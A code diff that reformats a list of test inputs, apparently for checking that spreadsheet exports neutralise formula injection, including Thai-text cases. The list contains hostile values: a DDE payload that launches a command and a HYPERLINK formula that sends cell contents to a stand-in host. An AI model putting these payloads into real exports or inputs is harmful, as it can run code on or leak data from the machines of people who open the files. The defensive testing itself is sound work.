@@ -21,10 +21,32 @@ from organizations.models import Organization
 from tests.factories import LeaderFactory, OrganizationFactory, PlanFactory, PositionFactory
 
 LIVE = [
-    "=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＋1", "－1", "＠x", "==1+1", " =1+1", "'=1+1",
-    '=HYPERLINK("http://canary.invalid/?"&D2,"กด")', "=cmd|' /C calc'!A0", "%0A=1+1", "=\u200b1", "''=1", "'ชื่อ", "ธรรมดา",
-    "  สองช่องว่าง  ", "บรรทัดหนึ่ง\nบรรทัดสอง", "<b>&amp;</b>", "๐๑๒",
-]  # fmt: skip
+    "=1+1",
+    "+1+1",
+    "-1+1",
+    "@SUM(1)",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "＝1+1",
+    "＋1",
+    "－1",
+    "＠x",
+    "==1+1",
+    " =1+1",
+    "'=1+1",
+    '=HYPERLINK("http://canary.invalid/?"&D2,"กด")',
+    "=cmd|' /C calc'!A0",
+    "%0A=1+1",
+    "=\u200b1",
+    "''=1",
+    "'ชื่อ",
+    "ธรรมดา",
+    "  สองช่องว่าง  ",
+    "บรรทัดหนึ่ง\nบรรทัดสอง",
+    "<b>&amp;</b>",
+    "๐๑๒",
+]
 
 
 def made(suffix: str, texts: list[str]) -> bytes:
